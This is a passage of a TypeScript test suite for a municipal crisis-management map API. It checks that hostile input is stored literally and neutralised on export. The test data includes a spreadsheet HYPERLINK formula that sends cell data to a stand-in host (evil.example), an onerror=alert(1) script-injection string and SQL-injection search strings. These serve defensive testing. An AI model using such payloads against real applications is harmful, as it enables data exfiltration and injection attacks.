    expect(res.headers.get('content-security-policy')).toMatch(/script-src 'self'/)
    const { user } = (await res.json()) as { user: { id: string; displayName: string } }
    expect(user.displayName).toBe(displayName)
    const listed = (await (
      await send({ as: 'admin', path: '/api/users', status: 200, name: 'list' }, app)
    ).json()) as {
      users: { id: string; displayName: string }[]
    }
    expect(listed.users.find((u) => u.id === user.id)?.displayName).toBe(displayName)
  })

  it('keeps an object’s hostile name and a spreadsheet formula exactly, and defuses the formula in CSV', async () => {
    const res = await send(
      {
        ...create('hazard-sites', site({ name: hostileName, operator: formula })),
        status: 201,
        name: 'hostile site',
      },
      app,
    )
    expect(res.status).toBe(201)
    const created = (await res.json()) as { id: string; properties: Record<string, unknown> }
    expect(created.properties).toMatchObject({ name: hostileName, operator: formula })

    const read = await (
      await app.request(`/api/layers/hazard-sites/features/${created.id}`, {
        headers: { cookie: cookies.lasare },
      })
    ).json()
    expect(read.properties).toMatchObject({ name: hostileName, operator: formula })

    const search = (await (
      await app.request(`/api/search?q=${encodeURIComponent('onerror=alert(1)')}`, {
        headers: { cookie: cookies.lasare },
      })
    ).json()) as { results: { id: string; name: string }[] }
    expect(search.results.find((r) => r.id === created.id)?.name).toBe(hostileName)

    const geojson = (await (
      await app.request('/api/layers/hazard-sites/export?format=geojson', {
        headers: { cookie: cookies.krisledare },
      })
    ).json()) as { features: { id: string; properties: Record<string, unknown> }[] }
    expect(geojson.features.find((f) => f.id === created.id)?.properties).toMatchObject({
      name: hostileName,
      operator: formula,
    })

    const csv = await (
      await app.request('/api/layers/hazard-sites/export?format=csv', {
        headers: { cookie: cookies.krisledare },
      })
    ).text()
    const line = csv.split('\r\n').find((l) => l.startsWith(created.id))
    expect(line).toBeDefined()
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Klicka"")"`)
    expect(line).not.toMatch(/(^|,)"?=HYPERLINK/)

    const [audit] = await db.query<{ after: { properties: Record<string, unknown> } }>(
      sql`SELECT after FROM audit_log WHERE entity_id = ${created.id} AND action = 'create'`,
    )
    expect(audit?.after.properties).toMatchObject({ name: hostileName, operator: formula })
  })

  it.each([sqlInjection, unionInjection, "%' OR name LIKE '%", '\\\\_%'])(
    'searches for %s literally, finding only names that contain it',
    async (text) => {
      for (const user of ['lasare', 'krisledare'] as const) {
        const res = await app.request(`/api/search?q=${encodeURIComponent(text)}&limit=50`, {
          headers: { cookie: cookies[user] },
        })
        expect(res.status).toBe(200)
        const { results } = (await res.json()) as { results: { name: string }[] }
        for (const r of results) expect(r.name.toLowerCase()).toContain(text.toLowerCase())
      }
    },
  )
})

/**
 * Bad input that once got a 500 (dates the calendar or PostgreSQL does not have, a reference to a
 * row that does not exist): kept as their own group so the fault stays named.
 */
const formerFaults: BadInput[] = [
  // server/layers/filters.ts: `isoDate` accepts what `Date.parse` rolls over (30 February, year 0),
  // which PostgreSQL refuses when the filter reaches the query.
  { name: 'a day that does not exist in a features filter', ...features('from=2024-02-30'), status: 400 },
  {
    name: 'a leap day in a common year in a tile filter',
    ...tile('incidents/10/553/300.mvt?to=2023-02-29T10:00Z'),
    status: 400,
  },
  {
    name: 'year zero in an export filter',
    as: 'krisledare',
    path: '/api/layers/incidents/export?from=0000-01-01',
    status: 400,
  },
  // server/layers/writable.ts: `occurredAt` takes `z.iso.datetime`, which lets the year 0000 through
  // to PostgreSQL, which has no year 0.
  {
    name: 'an incident in year zero',
    ...create(
      'incidents',
      () => ({
        type: 'Feature',
        geometry: { type: 'Point', coordinates: inside },
        properties: { category: 'vandalism', source: 'police', occurredAt: '0000-01-01T00:00:00Z' },
      }),
      'polis',
    ),
    status: 400,
  },
  // server/layers/edit-routes.ts: an `ownerActorId` that names no actor fails the foreign key in
  // the INSERT instead of being checked first (as `requireActor` does for users).
  {
    name: 'an owner that does not exist',
    ...create(
      'critical-assets',
      () => ({
        type: 'Feature',
        geometry: { type: 'Point', coordinates: inside },
        properties: { name: 'Testverket', sector: 'energy', function: 'Test', ownerActorId: UNUSED_UUID },
      }),
      'krisledare',
    ),
    status: 400,
  },
]

describe('bad input that once reached the database', () => {
  it.each(formerFaults.map((row) => [row.name, row] as const))('%s', async (_, row) => {
    const quiet = createApp({
      db,
      config: { kommun: TEST_KOMMUN },
      limits: createRateLimits(),
      log: () => {},
    })
    await expectContractError(await send(row, quiet), row.status, { what: row.name })
  })
})
